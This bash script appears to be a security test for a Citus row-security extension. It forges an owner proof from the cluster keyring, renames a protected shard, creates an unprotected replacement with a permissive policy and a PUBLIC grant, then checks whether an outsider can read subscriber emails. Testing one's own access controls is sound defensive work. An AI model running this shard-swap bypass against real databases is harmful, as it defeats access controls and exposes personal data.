#!/usr/bin/env bash
# 56 — Citus: what a proven listguard_owner session can still do to a
# protected shard without any statement the DDL guard refuses. The proof
# stands for a leaked one (docs/citus.md: code that an admin's shard
# operation runs may still hand it out through dblink); it is made here
# from the keyring, as test/cluster/citus.t does.
#
# As listguard_owner (proven, application_name citus_internal) on the
# worker that holds list 10's shard:
#   ALTER TABLE shard RENAME TO shard_x (renaming a table is not refused);
#   CREATE TABLE shard (LIKE shard_x INCLUDING ALL) (creating shards is Citus's);
#   CREATE POLICY listguard_base ON shard USING (true) (a name of the Citus
#   table's, so copies_table_object() lets it through, another body);
# then an application inserts a new subscriber of list 10 through the
# coordinator and the outsider (no grant) reads list 10 through it.
# Secure outcome: the rename or the CREATE TABLE is refused, or the new
#   shard is protected (forced row security, stamping, audit): the outsider
#   reads 0 rows.
# Run: PGBIN=... SERVERS_DIR=/tmp/atk10/cl SERVERS_BASE_PORT=5960 FAKE_PORT=5989 test/attacks/56_...sh
set -u
cd "$(dirname "$0")"
. ./citus_env.sh
citus_env_up
owner_proof() { # gpid -> a listguard_owner proof from the keyring (stands for a leaked one)
    python3 - "$SERVERS_DIR/cluster.keyring" "$1" <<'PY'
import base64, hashlib, hmac, struct, sys, time
key = next(bytes.fromhex(l.split()[1]) for l in open(sys.argv[1]) if l.startswith("index "))
prk = hmac.new(b"listguard hkdf salt v1", key, hashlib.sha256).digest()
okm = hmac.new(prk, b"listguard citus proof v2" + b"\x01", hashlib.sha256).digest()
raw = struct.pack(">QQ", int(sys.argv[2]), int(time.time()))
raw += hmac.new(okm, raw + b"listguard_owner", hashlib.sha256).digest()[:16]
print("lgp2:" + base64.urlsafe_b64encode(raw).decode().rstrip("="))
PY
}
GPID=10000056056
P=$(owner_proof $GPID)
as_owner() { PGAPPNAME="citus_internal gpid=$GPID" PGOPTIONS="-c listguard.citus_proof=$P" at "$1" -U listguard_owner "${@:2}"; }
read -r shard node < <(shard_of 10)
echo "list 10: shard $shard on $node; logged in as: $(as_owner "$node" -c "SELECT current_user" 2>&1)"
before=$(at coordinator -U outsider -c "SELECT count(*) FROM subs WHERE list_id = 10")
out=$(as_owner "$node" -v ON_ERROR_STOP=1 \
    -c "ALTER TABLE $shard RENAME TO ${shard}_x" \
    -c "CREATE TABLE $shard (LIKE ${shard}_x INCLUDING DEFAULTS INCLUDING IDENTITY)" \
    -c "ALTER TABLE $shard ADD PRIMARY KEY (list_id, id)" \
    -c "CREATE POLICY listguard_base ON $shard USING (true) WITH CHECK (true)" \
    -c "GRANT SELECT, INSERT, UPDATE, DELETE ON $shard TO PUBLIC" 2>&1)
echo "owner DDL: $(echo "$out" | tr '\n' ' ' | cut -c1-300)"
ins=$(at coordinator -U app -c "INSERT INTO subs (account_id, list_id, email) VALUES (2, 10, 'fresh.signup56@example.com')" 2>&1)
echo "app insert: $ins"
after=$(at coordinator -U outsider -c "SELECT count(*) FROM subs WHERE list_id = 10")
rows=$(at coordinator -U outsider -c "SELECT account_id || ' ' || email FROM subs WHERE list_id = 10" 2>&1 | tr '\n' ' ')
state=$(at "$node" -c "SET citus.override_table_visibility = off" -c "SELECT relrowsecurity || '/' || relforcerowsecurity || '/' || relowner::regrole || ' triggers=' || (SELECT count(*) FROM pg_trigger WHERE tgrelid = c.oid AND tgname LIKE 'listguard%') FROM pg_class c WHERE oid = '$shard'::regclass" 2>&1)
rdr=$(at coordinator -U reader -c "SELECT count(*) FROM subs WHERE list_id = 10" 2>&1)
events=$(at coordinator -c "SELECT string_agg(kind || coalesce(' ' || (detail->>'action'), ''), ', ') FROM (SELECT * FROM listguard.audit_log ORDER BY id DESC LIMIT 6) e" 2>&1)
echo "outsider reads list 10: $before -> $after rows ($rows); reader: $rdr; new shard rls/force/owner: $state"
echo "last events: $events"
# Restore the fixture.
at "$node" -c "SET citus.enable_manual_changes_to_shards = on" -c "DROP TABLE IF EXISTS $shard" -c "ALTER TABLE ${shard}_x RENAME TO $shard" >/dev/null 2>&1 || true
if [ "${after:-0}" -gt "${before:-0}" ]; then
    echo "RESULT: FINDING (H): a proven listguard_owner session replaces a protected shard by an unprotected table (rename + create): the outsider reads $after rows of list 10"
else
    echo "RESULT: held"
fi
